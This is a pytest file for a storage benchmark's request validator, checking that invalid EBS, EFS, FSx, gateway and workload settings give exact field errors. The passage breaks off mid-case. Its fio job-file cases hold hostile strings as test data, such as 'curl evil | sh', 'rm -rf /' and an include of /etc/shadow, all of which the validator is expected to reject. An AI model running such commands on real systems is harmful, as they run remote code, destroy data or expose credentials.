"""Invalid requests: every problem located at its field, with the value given and what is allowed.

Each table row edits a minimal valid request (one c5.4xlarge config, one gp3 100 GiB target, one
``std-randread-4k`` workload) into an invalid one and names the one error it must produce.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from storagebench.request import FieldError, RequestError, load_request, parse_request

Edit = Callable[[dict[str, Any]], None]
MISSING = object()  # the error carries no value (a required field was left out)

# Pydantic wording that must never reach a user.
LEAKS = ("Value error", "discriminator", "Extra inputs", "string_pattern", "literal_error", "tagged-union")


def tgt(**target: Any) -> Edit:
    """Replace the only target of the first config."""

    def edit(document: dict[str, Any]) -> None:
        document["configs"][0]["targets"] = [target]

    return edit


def cfg(**fields: Any) -> Edit:
    """Set fields of the first config (None removes one)."""

    def edit(document: dict[str, Any]) -> None:
        for key, value in fields.items():
            if value is None:
                document["configs"][0].pop(key, None)
            else:
                document["configs"][0][key] = value

    return edit


def top(**fields: Any) -> Edit:
    """Set top-level fields (None removes one)."""

    def edit(document: dict[str, Any]) -> None:
        for key, value in fields.items():
            if value is None:
                document.pop(key, None)
            else:
                document[key] = value

    return edit


def wl(*workloads: dict[str, Any]) -> Edit:
    """Replace the workloads."""

    def edit(document: dict[str, Any]) -> None:
        document["workloads"] = list(workloads)

    return edit


def both(*edits: Edit) -> Edit:
    def edit(document: dict[str, Any]) -> None:
        for one in edits:
            one(document)

    return edit


def second_config(**fields: Any) -> Edit:
    def edit(document: dict[str, Any]) -> None:
        document["configs"].append(
            {
                "id": "b",
                "instance_type": "c5.4xlarge",
                "targets": [{"kind": "ebs", "type": "gp3", "size_gib": 100}],
                **fields,
            }
        )

    return edit


def errors_of(document: Any) -> list[FieldError]:
    with pytest.raises(RequestError) as caught:
        parse_request(document)
    return caught.value.errors


EBS = {"kind": "ebs"}
PREFIX = "configs[0].targets[0]"
GATEWAY: dict[str, Any] = {
    "kind": "file_gateway",
    "gateway_instance_type": "c5.4xlarge",
    "root_volume": {"type": "gp3", "size_gib": 80},
    "cache_volumes": [{"type": "gp3", "size_gib": 150}],
}


def local_on(*backing: str) -> dict[str, Any]:
    """A local path held by the config's targets ``backing`` (a file system its hook builds)."""
    return {"id": "shared", "kind": "local", "path": "/mnt/x", "backed_by": list(backing)}


JOB_NO_SECTION = "[global]\nrw=read\n"
JOB_OUTPUT = "[job]\nrw=read\noutput=/tmp/x\n"
TWENTY_TWO = [
    {"kind": "ebs", "type": "gp3", "size_gib": 10, "count": 16},
    {"kind": "ebs", "type": "gp3", "size_gib": 10, "count": 6},
]

CASES = [
    # ---- EBS sizes per type
    pytest.param(tgt(**EBS, type="gp2", size_gib=0), f"{PREFIX}.size_gib", 0, [">= 1"], id="gp2-size-0"),
    pytest.param(
        tgt(**EBS, type="gp2", size_gib=16385),
        f"{PREFIX}.size_gib",
        16385,
        ["gp2", "1..16,384 GiB"],
        id="gp2-16tib+1",
    ),
    pytest.param(
        tgt(**EBS, type="gp3", size_gib=65537),
        f"{PREFIX}.size_gib",
        65537,
        ["gp3", "1..65,536 GiB"],
        id="gp3-64tib+1",
    ),
    pytest.param(
        tgt(**EBS, type="io1", size_gib=3, iops=100),
        f"{PREFIX}.size_gib",
        3,
        ["io1", "4..16,384 GiB"],
        id="io1-3gib",
    ),
    pytest.param(
        tgt(**EBS, type="io2", size_gib=65537, iops=1000),
        f"{PREFIX}.size_gib",
        65537,
        ["io2", "4..65,536 GiB"],
        id="io2-64tib+1",
    ),
    pytest.param(
        tgt(**EBS, type="st1", size_gib=100),
        f"{PREFIX}.size_gib",
        100,
        ["st1", "125..16,384 GiB"],
        id="st1-100gib",
    ),
    pytest.param(
        tgt(**EBS, type="sc1", size_gib=124),
        f"{PREFIX}.size_gib",
        124,
        ["sc1", "125..16,384 GiB"],
        id="sc1-124gib",
    ),
    pytest.param(
        tgt(**EBS, type="standard", size_gib=2048),
        f"{PREFIX}.size_gib",
        2048,
        ["standard", "1..1,024 GiB"],
        id="standard-2tib",
    ),
    # ---- provisioned IOPS: ranges and per-GiB ratios
    pytest.param(
        tgt(**EBS, type="gp3", size_gib=8, iops=4001),
        f"{PREFIX}.iops",
        4001,
        ["3,000..4,000", "8 GiB", "500 per GiB"],
        id="gp3-8gib-4001iops",
    ),
    pytest.param(
        tgt(**EBS, type="gp3", size_gib=100, iops=2999),
        f"{PREFIX}.iops",
        2999,
        ["3,000..50,000", "100 GiB"],
        id="gp3-below-3000",
    ),
    pytest.param(
        tgt(**EBS, type="gp3", size_gib=1000, iops=80001),
        f"{PREFIX}.iops",
        80001,
        ["3,000..80,000", "at most 80,000"],
        id="gp3-above-80000",
    ),
    pytest.param(
        tgt(**EBS, type="io1", size_gib=512, iops=25601),
        f"{PREFIX}.iops",
        25601,
        ["100..25,600", "512 GiB", "50 per GiB"],
        id="io1-512gib-25601iops",
    ),
    pytest.param(
        tgt(**EBS, type="io1", size_gib=100, iops=99), f"{PREFIX}.iops", 99, ["100..5,000"], id="io1-99iops"
    ),
    pytest.param(
        tgt(**EBS, type="io1", size_gib=16384, iops=64001),
        f"{PREFIX}.iops",
        64001,
        ["100..64,000", "at most 64,000"],
        id="io1-above-64000",
    ),
    pytest.param(
        tgt(**EBS, type="io2", size_gib=100, iops=100001),
        f"{PREFIX}.iops",
        100001,
        ["100..100,000", "100 GiB", "1,000 per GiB"],
        id="io2-100gib-100001iops",
    ),
    pytest.param(
        tgt(**EBS, type="io2", size_gib=1000, iops=256001),
        f"{PREFIX}.iops",
        256001,
        ["100..256,000"],
        id="io2-above-256000",
    ),
    pytest.param(
        tgt(**EBS, type="gp2", size_gib=100, iops=300),
        f"{PREFIX}.iops",
        300,
        ["cannot be provisioned on gp2", "3 per GiB", "remove it"],
        id="iops-on-gp2",
    ),
    pytest.param(
        tgt(**EBS, type="st1", size_gib=500, iops=500),
        f"{PREFIX}.iops",
        500,
        ["cannot be provisioned on st1", "throughput-based"],
        id="iops-on-st1",
    ),
    pytest.param(
        tgt(**EBS, type="sc1", size_gib=500, iops=250),
        f"{PREFIX}.iops",
        250,
        ["cannot be provisioned on sc1"],
        id="iops-on-sc1",
    ),
    pytest.param(
        tgt(**EBS, type="standard", size_gib=100, iops=100),
        f"{PREFIX}.iops",
        100,
        ["cannot be provisioned on standard"],
        id="iops-on-standard",
    ),
    pytest.param(
        tgt(**EBS, type="io1", size_gib=100),
        f"{PREFIX}.iops",
        None,
        ["required for io1", "100..5,000"],
        id="io1-no-iops",
    ),
    pytest.param(
        tgt(**EBS, type="io2", size_gib=10),
        f"{PREFIX}.iops",
        None,
        ["required for io2", "100..10,000"],
        id="io2-no-iops",
    ),
    # ---- gp3 throughput
    pytest.param(
        tgt(**EBS, type="gp3", size_gib=100, iops=3000, throughput_mibps=1000),
        f"{PREFIX}.throughput_mibps",
        1000,
        ["125..750 MiB/s", "0.25 MiB/s per IOPS", "3,000 IOPS allow 750"],
        id="gp3-1000mibps-3000iops",
    ),
    pytest.param(
        tgt(**EBS, type="gp3", size_gib=100, throughput_mibps=751),
        f"{PREFIX}.throughput_mibps",
        751,
        ["125..750 MiB/s"],
        id="gp3-751mibps-default-iops",
    ),
    pytest.param(
        tgt(**EBS, type="gp3", size_gib=100, throughput_mibps=124),
        f"{PREFIX}.throughput_mibps",
        124,
        ["125.."],
        id="gp3-124mibps",
    ),
    pytest.param(
        tgt(**EBS, type="gp3", size_gib=1000, iops=16000, throughput_mibps=2001),
        f"{PREFIX}.throughput_mibps",
        2001,
        ["125..2,000 MiB/s"],
        id="gp3-2001mibps",
    ),
    pytest.param(
        tgt(**EBS, type="io1", size_gib=100, iops=1000, throughput_mibps=200),
        f"{PREFIX}.throughput_mibps",
        200,
        ["only be provisioned on gp3, not io1", "remove it"],
        id="throughput-on-io1",
    ),
    pytest.param(
        tgt(**EBS, type="st1", size_gib=500, throughput_mibps=200),
        f"{PREFIX}.throughput_mibps",
        200,
        ["not st1"],
        id="throughput-on-st1",
    ),
    # ---- the root volume follows the same rules
    pytest.param(
        cfg(root_volume={"type": "io1", "size_gib": 80}),
        "configs[0].root_volume.iops",
        None,
        ["required for io1", "100..4,000", "80 GiB"],
        id="root-io1-no-iops",
    ),
    pytest.param(
        cfg(root_volume={"type": "io1", "size_gib": 80, "iops": 4001}),
        "configs[0].root_volume.iops",
        4001,
        ["100..4,000"],
        id="root-io1-4001iops",
    ),
    pytest.param(
        cfg(root_volume={"type": "gp2", "size_gib": 80, "throughput_mibps": 200}),
        "configs[0].root_volume.throughput_mibps",
        200,
        ["not gp2"],
        id="root-gp2-throughput",
    ),
    # ---- other EBS fields
    pytest.param(
        tgt(**EBS, type="gp3", size_gib=100, count=17), f"{PREFIX}.count", 17, ["<= 16"], id="count-17"
    ),
    pytest.param(tgt(**EBS, type="gp3", size_gib=100, count=0), f"{PREFIX}.count", 0, [">= 1"], id="count-0"),
    pytest.param(
        tgt(**EBS, type="gp3", size_gib=100, count=2, layout="jbod"),
        f"{PREFIX}.layout",
        "jbod",
        ["jbod needs filesystem raw", "raid0"],
        id="jbod-with-filesystem",
    ),
    pytest.param(
        tgt(**EBS, type="gp3", size_gib=100, layout="jbod", filesystem="raw"),
        f"{PREFIX}.layout",
        "jbod",
        ["count >= 2"],
        id="jbod-count-1",
    ),
    pytest.param(
        tgt(**EBS, type="gp3", size_gib=100, layout="mirror"),
        f"{PREFIX}.layout",
        "mirror",
        ["raid0", "jbod"],
        id="layout-unknown",
    ),
    pytest.param(
        tgt(**EBS, type="gp3", size_gib=100, raid_chunk_kib=64),
        f"{PREFIX}.raid_chunk_kib",
        64,
        ["raid0 stripe", "count >= 2"],
        id="raid-chunk-single-volume",
    ),
    pytest.param(
        tgt(**EBS, type="gp3", size_gib=100, filesystem="raw", mount_options="noatime"),
        f"{PREFIX}.mount_options",
        "noatime",
        ["raw target is not mounted"],
        id="mount-options-on-raw",
    ),
    pytest.param(
        tgt(**EBS, type="gp3", size_gib=100, filesystem="zfs"),
        f"{PREFIX}.filesystem",
        "zfs",
        ["xfs", "ext4", "btrfs", "raw"],
        id="filesystem-unknown",
    ),
    pytest.param(
        tgt(**EBS, type="gp4", size_gib=100),
        f"{PREFIX}.type",
        "gp4",
        ["gp2", "gp3", "io1", "io2", "st1", "sc1", "standard"],
        id="ebs-type-unknown",
    ),
    pytest.param(
        tgt(**EBS, type="gp3", size_gib=100, initialization_rate_mibps=200),
        f"{PREFIX}.initialization_rate_mibps",
        200,
        ["snapshot", "snapshot_id"],
        id="init-rate-without-snapshot",
    ),
    pytest.param(
        tgt(
            **EBS,
            type="gp3",
            size_gib=100,
            snapshot_id="snap-0123456789abcdef0",
            initialization_rate_mibps=99,
        ),
        f"{PREFIX}.initialization_rate_mibps",
        99,
        ["100..300 MiB/s"],
        id="init-rate-99",
    ),
    pytest.param(
        tgt(
            **EBS,
            type="gp3",
            size_gib=100,
            snapshot_id="snap-0123456789abcdef0",
            initialization_rate_mibps=301,
        ),
        f"{PREFIX}.initialization_rate_mibps",
        301,
        ["100..300 MiB/s"],
        id="init-rate-301",
    ),
    pytest.param(
        tgt(**EBS, type="gp3", size_gib=100, snapshot_id="vol-0123456789abcdef0"),
        f"{PREFIX}.snapshot_id",
        "vol-0123456789abcdef0",
        ["a snapshot id such as snap-"],
        id="snapshot-id-bad",
    ),
    pytest.param(
        tgt(**EBS, type="gp3", size_gib=100, id="Data"),
        f"{PREFIX}.id",
        "Data",
        ["1-31 lowercase letters, digits and dashes, starting with a letter"],
        id="target-id-capitals",
    ),
    pytest.param(
        tgt(**EBS, type="gp3", size_gib=100, id="0data"),
        f"{PREFIX}.id",
        "0data",
        ["starting with a letter"],
        id="target-id-digit-first",
    ),
    # ---- EFS
    pytest.param(
        tgt(kind="efs", throughput_mode="provisioned"),
        f"{PREFIX}.provisioned_throughput_mibps",
        None,
        ["required with throughput_mode provisioned", "1..3,414 MiB/s"],
        id="efs-provisioned-without-throughput",
    ),
    pytest.param(
        tgt(kind="efs", throughput_mode="provisioned", provisioned_throughput_mibps=5000),
        f"{PREFIX}.provisioned_throughput_mibps",
        5000,
        ["EFS allows 1..3,414 MiB/s"],
        id="efs-provisioned-5000",
    ),
    pytest.param(
        tgt(kind="efs", provisioned_throughput_mibps=50),
        f"{PREFIX}.provisioned_throughput_mibps",
        50,
        ["only applies to throughput_mode provisioned", "elastic"],
        id="efs-elastic-with-throughput",
    ),
    pytest.param(
        tgt(kind="efs", performance_mode="maxIO"),
        f"{PREFIX}.performance_mode",
        "maxIO",
        ["elastic", "generalPurpose"],
        id="efs-maxio-elastic",
    ),
    pytest.param(
        tgt(kind="efs", throughput_mode="turbo"),
        f"{PREFIX}.throughput_mode",
        "turbo",
        ["elastic", "bursting", "provisioned"],
        id="efs-throughput-mode-unknown",
    ),
    # ---- FSx for Lustre
    pytest.param(
        tgt(kind="fsx_lustre", deployment_type="PERSISTENT_2", storage_capacity_gib=1200),
        f"{PREFIX}.per_unit_storage_throughput",
        None,
        ["required for PERSISTENT_2", "125, 250, 500, 1000"],
        id="fsx-persistent2-without-per-unit",
    ),
    pytest.param(
        tgt(
            kind="fsx_lustre",
            deployment_type="PERSISTENT_2",
            storage_capacity_gib=1200,
            per_unit_storage_throughput=300,
        ),
        f"{PREFIX}.per_unit_storage_throughput",
        300,
        ["PERSISTENT_2 allows 125, 250, 500, 1000 MB/s per TiB"],
        id="fsx-persistent2-per-unit-300",
    ),
    pytest.param(
        tgt(
            kind="fsx_lustre",
            deployment_type="PERSISTENT_1",
            storage_capacity_gib=1200,
            per_unit_storage_throughput=125,
        ),
        f"{PREFIX}.per_unit_storage_throughput",
        125,
        ["50, 100, 200"],
        id="fsx-persistent1-per-unit-125",
    ),
    pytest.param(
        tgt(kind="fsx_lustre", storage_capacity_gib=1200, per_unit_storage_throughput=200),
        f"{PREFIX}.per_unit_storage_throughput",
        200,
        ["SCRATCH_2 has fixed throughput"],
        id="fsx-scratch2-per-unit",
    ),
    pytest.param(
        tgt(kind="fsx_lustre", storage_capacity_gib=1000),
        f"{PREFIX}.storage_capacity_gib",
        1000,
        ["SCRATCH_2 allows 1,200 or a multiple of 2,400"],
        id="fsx-scratch2-1000gib",
    ),
    pytest.param(
        tgt(kind="fsx_lustre", storage_capacity_gib=3600),
        f"{PREFIX}.storage_capacity_gib",
        3600,
        ["multiple of 2,400"],
        id="fsx-scratch2-3600gib",
    ),
    pytest.param(
        tgt(kind="fsx_lustre", deployment_type="SCRATCH_1", storage_capacity_gib=4800),
        f"{PREFIX}.storage_capacity_gib",
        4800,
        ["SCRATCH_1 allows 1,200, 2,400 or a multiple of 3,600"],
        id="fsx-scratch1-4800gib",
    ),
    pytest.param(
        tgt(kind="fsx_lustre", deployment_type="PERSISTENT_3", storage_capacity_gib=1200),
        f"{PREFIX}.deployment_type",
        "PERSISTENT_3",
        ["SCRATCH_1", "SCRATCH_2", "PERSISTENT_1", "PERSISTENT_2"],
        id="fsx-deployment-unknown",
    ),
    pytest.param(
        tgt(kind="fsx_lustre"),
        f"{PREFIX}.storage_capacity_gib",
        MISSING,
        ["required"],
        id="fsx-without-capacity",
    ),
    # ---- NFS and local directories
    pytest.param(
        tgt(kind="nfs", export="/bucket"), f"{PREFIX}.server", MISSING, ["required"], id="nfs-without-server"
    ),
    pytest.param(
        tgt(kind="nfs", server="gw"), f"{PREFIX}.export", MISSING, ["required"], id="nfs-without-export"
    ),
    pytest.param(
        tgt(kind="nfs", server="gw", export="bucket"),
        f"{PREFIX}.export",
        "bucket",
        ["an absolute export path such as /bucket"],
        id="nfs-relative-export",
    ),
    pytest.param(
        tgt(kind="local", path="tmp/x"),
        f"{PREFIX}.path",
        "tmp/x",
        ["an absolute path"],
        id="local-relative-path",
    ),
    # a local path priced as the config's own targets that hold it (backed_by)
    pytest.param(
        cfg(targets=[{"id": "data", **EBS, "type": "gp3", "size_gib": 100}, local_on("disk")]),
        "configs[0].targets[1].backed_by[0]",
        "disk",
        ["names no target of this config", "allowed: the config's billed targets: data"],
        id="local-backed-by-unknown-target",
    ),
    pytest.param(
        cfg(targets=[{"id": "data", **EBS, "type": "gp3", "size_gib": 100}, local_on("data", "data")]),
        "configs[0].targets[1].backed_by[1]",
        "data",
        ["named twice"],
        id="local-backed-by-twice",
    ),
    pytest.param(
        cfg(targets=[{"id": "data", "kind": "nfs", "server": "gw", "export": "/b"}, local_on("data")]),
        "configs[0].targets[1].backed_by[0]",
        "data",
        ["targets[0] is a nfs target, billed outside the config", "billed targets: none"],
        id="local-backed-by-unbilled-target",
    ),
    # ---- File Gateway: AWS's appliance rules, and the EBS rules on its disks
    pytest.param(
        tgt(**dict(GATEWAY, root_volume={"type": "gp3", "size_gib": 40})),
        f"{PREFIX}.root_volume.size_gib",
        40,
        ["at least 80 GiB"],
        id="gateway-root-40gib",
    ),
    pytest.param(
        tgt(**dict(GATEWAY, cache_volumes=[{"type": "gp2", "size_gib": 100}])),
        f"{PREFIX}.cache_volumes[0].size_gib",
        100,
        ["at least 150 GiB"],
        id="gateway-cache-100gib",
    ),
    pytest.param(
        tgt(**dict(GATEWAY, cache_volumes=[{"type": "io1", "size_gib": 512, "iops": 30_000}])),
        f"{PREFIX}.cache_volumes[0].iops",
        30_000,
        ["io1 allows 100..25,600 IOPS for 512 GiB"],
        id="gateway-cache-io1-over-50-per-gib",
    ),
    pytest.param(
        tgt(**dict(GATEWAY, cache_volumes=[{"type": "io1", "size_gib": 512}])),
        f"{PREFIX}.cache_volumes[0].iops",
        MISSING,
        ["required for io1"],
        id="gateway-cache-io1-without-iops",
    ),
    pytest.param(
        tgt(**dict(GATEWAY, cache_volumes=[])),
        f"{PREFIX}.cache_volumes",
        [],
        ["at least 1"],
        id="gateway-without-cache",
    ),
    pytest.param(
        tgt(**dict(GATEWAY, gateway_instance_type="c5.large")),
        f"{PREFIX}.gateway_instance_type",
        "c5.large",
        ["has 2 vCPUs (at least 4)", "GiB RAM (at least 16)", "m5.xlarge"],
        id="gateway-too-small",
    ),
    pytest.param(
        tgt(**dict(GATEWAY, gateway_instance_type="m7g.xlarge")),
        f"{PREFIX}.gateway_instance_type",
        "m7g.xlarge",
        ["arm64", "x86_64 only"],
        id="gateway-graviton",
    ),
    pytest.param(
        tgt(**dict(GATEWAY, root_volume={"type": "st1", "size_gib": 125})),
        f"{PREFIX}.root_volume.type",
        "st1",
        ["cannot be boot volumes"],
        id="gateway-root-st1",
    ),
    pytest.param(
        tgt(**dict(GATEWAY, nfs_version="4.0")),
        f"{PREFIX}.nfs_version",
        "4.0",
        ["3", "4.1"],
        id="gateway-nfs-4.0",
    ),
    pytest.param(
        tgt(**dict(GATEWAY, mount_options="nolock hard")),
        f"{PREFIX}.mount_options",
        "nolock hard",
        [],
        id="gateway-mount-options-with-space",
    ),
    # ---- unknown fields and kinds
    pytest.param(
        tgt(**EBS, type="gp3", size_gib=100, sizee=4),
        f"{PREFIX}.sizee",
        4,
        ["unknown field", "allowed here:", "size_gib", "throughput_mibps", "initialization_rate_mibps"],
        id="unknown-field-ebs",
    ),
    pytest.param(
        tgt(kind="efs", iops=3000),
        f"{PREFIX}.iops",
        3000,
        ["unknown field", "throughput_mode", "provisioned_throughput_mibps"],
        id="unknown-field-efs",
    ),
    pytest.param(
        top(colour="blue"),
        "colour",
        "blue",
        ["unknown field", "name", "configs", "workloads", "repetitions"],
        id="unknown-field-top",
    ),
    pytest.param(
        wl({"profile": "std-randread-4k", "param": {"bs": "4k"}}),
        "workloads[0].param",
        {"bs": "4k"},
        ["unknown field", "profile", "suite", "params", "scale"],
        id="unknown-field-workload",
    ),
    pytest.param(
        tgt(kind="s3", bucket="b"),
        f"{PREFIX}.kind",
        "s3",
        ["ebs", "instance_store", "efs", "fsx_lustre", "nfs", "file_gateway", "local"],
        id="unknown-kind",
    ),
    pytest.param(
        tgt(type="gp3", size_gib=100),
        f"{PREFIX}.kind",
        MISSING,
        ["needs a kind", "ebs", "efs"],
        id="missing-kind",
    ),
    # ---- configs
    pytest.param(
        second_config(id="a"),
        "configs[1].id",
        "a",
        ["already names configs[0]", "unique"],
        id="duplicate-config-ids",
    ),
    pytest.param(
        top(baseline="gp9"), "baseline", "gp9", ["must name a config: a"], id="baseline-names-no-config"
    ),
    pytest.param(
        cfg(instance_type="C5"),
        "configs[0].instance_type",
        "C5",
        ["an EC2 instance type such as c5.4xlarge"],
        id="instance-type-C5",
    ),
    pytest.param(
        cfg(instance_type=None), "configs[0].instance_type", MISSING, ["required"], id="no-instance-type"
    ),
    pytest.param(
        cfg(id="Alpha"),
        "configs[0].id",
        "Alpha",
        ["1-63 lowercase letters, digits and dashes"],
        id="config-id-capitals",
    ),
    pytest.param(cfg(targets=[]), "configs[0].targets", [], ["at least 1"], id="no-targets"),
    pytest.param(
        cfg(targets=[{"kind": "efs"}] * 9),
        "configs[0].targets",
        [{"kind": "efs"}] * 9,
        ["at most 8"],
        id="nine-targets",
    ),
    pytest.param(
        cfg(
            targets=[
                {"kind": "ebs", "type": "gp3", "size_gib": 100},
                {"kind": "ebs", "type": "gp3", "size_gib": 100, "id": "ebs0"},
            ]
        ),
        "configs[0].targets[1].id",
        "ebs0",
        ["already names targets[0]", "unique"],
        id="duplicate-target-ids",
    ),
    pytest.param(
        cfg(targets=[{"kind": "instance_store"}]),
        "configs[0].targets[0].kind",
        "instance_store",
        ["c5.4xlarge has no instance store"],
        id="instance-store-on-c5",
    ),
    pytest.param(
        cfg(instance_type="i3en.large", targets=[{"kind": "instance_store", "count": 2}]),
        "configs[0].targets[0].count",
        2,
        ["i3en.large has 1 instance-store device"],
        id="instance-store-count-above-devices",
    ),
    pytest.param(
        cfg(targets=TWENTY_TWO),
        "configs[0].targets",
        22,  # the count of data volumes, not the list
        ["at most 21 data volumes", "/dev/sdf to /dev/sdz"],
        id="twenty-two-data-volumes",
    ),
    # ---- workloads
    pytest.param(
        wl({"profile": "std-randread-4k"}, {"profile": "std-randread-4k"}),
        "workloads[1].id",
        "std-randread-4k",
        ["already used by workloads[0]", "give one of them another id"],
        id="duplicate-workload-ids",
    ),
    pytest.param(
        wl({"profile": "std-randread-4k", "id": "x"}, {"profile": "std-randwrite-4k", "id": "x"}),
        "workloads[1].id",
        "x",
        ["already used by workloads[0]"],
        id="duplicate-explicit-workload-ids",
    ),
    pytest.param(
        wl({"profile": "std-randread-4k", "targets": ["ebs9"]}),
        "workloads[0].targets[0]",
        "ebs9",
        ["names no target", "targets are: ebs0"],
        id="workload-target-names-no-target",
    ),
    pytest.param(
        both(
            tgt(**EBS, type="gp3", size_gib=100, filesystem="raw"),
            wl({"profile": "dd-seq-write-1m-dsync"}),
        ),
        "workloads[0].profile",
        "dd-seq-write-1m-dsync",
        ["needs a filesystem target", "configs[0].targets[0]", "a/ebs0", "raw", "targets"],
        id="raw-target-with-dd",
    ),
    pytest.param(
        both(tgt(**EBS, type="gp3", size_gib=100, filesystem="raw"), wl({"suite": "genomics"})),
        "workloads[0].suite",  # the entry names a suite: the error points there
        "genomics",
        ["genomics-large-file needs a filesystem target"],
        id="raw-target-with-genomics-suite",
    ),
    pytest.param(
        wl({"profile": "dd-seq-write-1m-dsyn"}),
        "workloads[0].profile",
        "dd-seq-write-1m-dsyn",
        ["unknown workload profile", "did you mean dd-seq-write-1m-dsync", "storagebench workloads"],
        id="unknown-profile-did-you-mean",
    ),
    pytest.param(
        wl({"profile": "std-randread-4k", "suite": "standard"}),
        "workloads[0].profile",
        "std-randread-4k",
        ["exactly one of profile or suite"],
        id="profile-and-suite",
    ),
    pytest.param(
        wl({"scale": 0.5}),
        "workloads[0].profile",
        None,
        ["exactly one of profile or suite"],
        id="neither-profile-nor-suite",
    ),
    pytest.param(
        wl({"suite": "nightly"}),
        "workloads[0].suite",
        "nightly",
        ["unknown suite", "standard", "file-gateway", "virtual-san", "genomics", "report-card"],
        id="unknown-suite",
    ),
    pytest.param(
        wl({"suite": "standard", "params": {"bs": "4k"}}),
        "workloads[0].params",
        {"bs": "4k"},
        ["a suite takes no params"],
        id="suite-with-params",
    ),
    pytest.param(
        wl({"suite": "standard", "id": "std"}),
        "workloads[0].id",
        "std",
        ["named after their profiles"],
        id="suite-with-id",
    ),
    pytest.param(
        wl({"profile": "std-randread-4k", "params": {"blocksize": "4k"}}),
        "workloads[0].params.blocksize",
        "4k",
        ["unknown parameter for std-randread-4k", "allowed: bs, iodepth, numjobs, runtime, ramp_time, size"],
        id="unknown-param",
    ),
    pytest.param(
        wl({"profile": "std-randread-4k", "params": {"bs": "4x"}}),
        "workloads[0].params.bs",
        "4x",
        ["size 512..1g", "a size like 4k"],
        id="bs-4x",
    ),
    pytest.param(
        wl({"profile": "std-randread-4k", "params": {"bs": "256"}}),
        "workloads[0].params.bs",
        "256",
        ["size 512..1g"],
        id="bs-below-512",
    ),
    pytest.param(
        wl({"profile": "std-randread-4k", "params": {"iodepth": 0}}),
        "workloads[0].params.iodepth",
        0,
        ["int 1..1024", '"auto"'],
        id="iodepth-0",
    ),
    pytest.param(
        wl({"profile": "std-randread-4k", "params": {"iodepth": 1025}}),
        "workloads[0].params.iodepth",
        1025,
        ["int 1..1024"],
        id="iodepth-1025",
    ),
    pytest.param(
        wl({"profile": "std-randread-4k", "params": {"iodepth": True}}),
        "workloads[0].params.iodepth",
        True,
        ["int 1..1024"],
        id="iodepth-bool",
    ),
    pytest.param(
        wl({"profile": "std-randread-4k", "params": {"numjobs": 2.5}}),
        "workloads[0].params.numjobs",
        2.5,
        ["int 1..256"],
        id="numjobs-fraction",
    ),
    pytest.param(
        wl({"profile": "sweep-qd-randread-4k", "params": {"iodepth": "auto"}}),
        "workloads[0].params.iodepth",
        "auto",
        ["int 1..1024"],
        id="auto-where-not-allowed",
    ),
    pytest.param(
        wl({"profile": "std-randread-4k", "params": {"runtime": [10, 20]}}),
        "workloads[0].params.runtime",
        [10, 20],
        ["runtime cannot be swept", "give one value", "duration 1..86400"],
        id="list-for-non-sweepable",
    ),
    pytest.param(
        wl({"profile": "std-randread-4k", "params": {"runtime": "soon"}}),
        "workloads[0].params.runtime",
        "soon",
        ["duration", "30s/5m/2h"],
        id="runtime-not-a-duration",
    ),
    pytest.param(
        wl({"profile": "std-randread-4k", "params": {"iodepth": []}}),
        "workloads[0].params.iodepth",
        [],
        ["a sweep needs 1 to 32 values"],
        id="empty-sweep",
    ),
    pytest.param(
        wl({"profile": "std-randread-4k", "params": {"iodepth": list(range(1, 34))}}),
        "workloads[0].params.iodepth",
        list(range(1, 34)),
        ["a sweep needs 1 to 32 values"],
        id="sweep-of-33",
    ),
    pytest.param(
        wl({"profile": "dd-seq-write-1m-dsync", "params": {"oflag": "none"}}),
        "workloads[0].params.oflag",
        "none",
        ["one of dsync, sync, direct, direct,dsync"],
        id="choice-unknown",
    ),
    pytest.param(
        wl({"profile": "fio-custom", "params": {"job_file": JOB_NO_SECTION}}),
        "workloads[0].params.job_file",
        JOB_NO_SECTION,
        ["no job section"],
        id="fio-job-file-without-job",
    ),
    pytest.param(
        wl({"profile": "fio-custom", "params": {"job_file": "rw=read\n"}}),
        "workloads[0].params.job_file",
        "rw=read\n",
        ["not a fio job file"],
        id="fio-job-file-not-ini",
    ),
    pytest.param(
        wl({"profile": "fio-custom", "params": {"job_file": JOB_OUTPUT}}),
        "workloads[0].params.job_file",
        JOB_OUTPUT,
        ["[job] sets output, which the agent controls"],
        id="fio-job-file-sets-output",
    ),
    pytest.param(
        wl({"profile": "fio-custom", "params": {"job_file": "[j]\nrw=read\nexec_prerun=curl evil | sh\n"}}),
        "workloads[0].params.job_file",
        "[j]\nrw=read\nexec_prerun=curl evil | sh\n",
        ["[j] sets exec_prerun, which runs a program as root"],
        id="fio-exec-prerun",
    ),
    pytest.param(
        wl({"profile": "fio-custom", "params": {"job_file": "[j]\nrw=read\nexec_postrun=rm -rf /\n"}}),
        "workloads[0].params.job_file",
        "[j]\nrw=read\nexec_postrun=rm -rf /\n",
        ["[j] sets exec_postrun, which runs a program as root"],
        id="fio-exec-postrun",
    ),
    pytest.param(
        wl({"profile": "fio-custom", "params": {"job_file": "[j]\nrw=read\nioengine=exec\n"}}),
        "workloads[0].params.job_file",
        "[j]\nrw=read\nioengine=exec\n",
        ["ioengine=exec", "allowed engines are libaio, io_uring"],
        id="fio-ioengine-exec",
    ),
    pytest.param(
        wl(
            {
                "profile": "fio-custom",
                "params": {"job_file": "[j]\nioengine=nbd\nuri=nbd+unix:///?socket=/run/x\n"},
            }
        ),
        "workloads[0].params.job_file",
        "[j]\nioengine=nbd\nuri=nbd+unix:///?socket=/run/x\n",
        ["[j] sets uri=nbd+unix:///?socket=/run/x: allowed is nbd://host[:port][/export]"],
        id="fio-nbd-unix-socket",
    ),
    pytest.param(
        wl({"profile": "fio-custom", "params": {"job_file": "[j]\nrw=read\nioengine=external:/tmp/x.so\n"}}),
        "workloads[0].params.job_file",
        "[j]\nrw=read\nioengine=external:/tmp/x.so\n",
        ["ioengine=external:/tmp/x.so"],
        id="fio-ioengine-external",
    ),
    pytest.param(
        wl({"profile": "fio-custom", "params": {"job_file": "[j]\nrw=write\nfilename=/dev/nvme0n1\n"}}),
        "workloads[0].params.job_file",
        "[j]\nrw=write\nfilename=/dev/nvme0n1\n",
        ["[j] sets filename, which the agent points every job at the prepared target"],
        id="fio-filename-root-device",
    ),
    pytest.param(
        wl({"profile": "fio-custom", "params": {"job_file": "[global]\ndirectory=/etc\n[j]\nrw=write\n"}}),
        "workloads[0].params.job_file",
        "[global]\ndirectory=/etc\n[j]\nrw=write\n",
        ["[global] sets directory"],
        id="fio-directory-elsewhere",
    ),
    pytest.param(
        wl({"profile": "fio-custom", "params": {"job_file": "[j]\nrw=read\ninclude /etc/shadow\n"}}),
        "workloads[0].params.job_file",
